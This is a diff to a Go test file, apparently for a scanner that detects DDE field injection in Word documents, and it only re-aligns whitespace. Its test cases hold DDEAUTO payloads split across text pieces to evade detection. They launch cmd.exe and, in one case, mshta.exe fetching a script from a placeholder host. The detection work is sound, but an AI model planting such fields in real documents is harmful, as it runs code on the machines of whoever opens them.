@@ -117,9 +117,9 @@ func TestWordBinaryDDE(t *testing.T) {
 func TestWordDDEPieces(t *testing.T) {
 	type P = testdoc.WordPiece
 	pos := map[string][]P{
-		"two pieces": {{Text: "Dear customer,\r\x13 DD", Wide: false}, {Text: "EAUTO c:\\windows\\system32\\cmd.exe \"/k calc.exe\" \x14\x15\rRegards", Wide: true}},
-		"three pieces": {{Text: "Hello \x13D", Wide: true}, {Text: "DEA", Wide: false}, {Text: "UTO c:\\Windows\\System32\\mshta.exe http://example.invalid/a \x15", Wide: true}},
-		"nested empty": {{Text: "x \x13DD\x13 QUOTE \"\" \x14\x15EAUTO c:\\windows\\system32\\cmd.exe \"/c calc\"\x15 y", Wide: false}},
+		"two pieces":    {{Text: "Dear customer,\r\x13 DD", Wide: false}, {Text: "EAUTO c:\\windows\\system32\\cmd.exe \"/k calc.exe\" \x14\x15\rRegards", Wide: true}},
+		"three pieces":  {{Text: "Hello \x13D", Wide: true}, {Text: "DEA", Wide: false}, {Text: "UTO c:\\Windows\\System32\\mshta.exe http://example.invalid/a \x15", Wide: true}},
+		"nested empty":  {{Text: "x \x13DD\x13 QUOTE \"\" \x14\x15EAUTO c:\\windows\\system32\\cmd.exe \"/c calc\"\x15 y", Wide: false}},
 		"nested spells": {{Text: "x \x13\x13 QUOTE 68 68 69 \x14DDE\x15 c:\\windows\\system32\\cmd.exe \"/c calc\" \x15 y", Wide: true}},
 	}
 	for name, pieces := range pos {
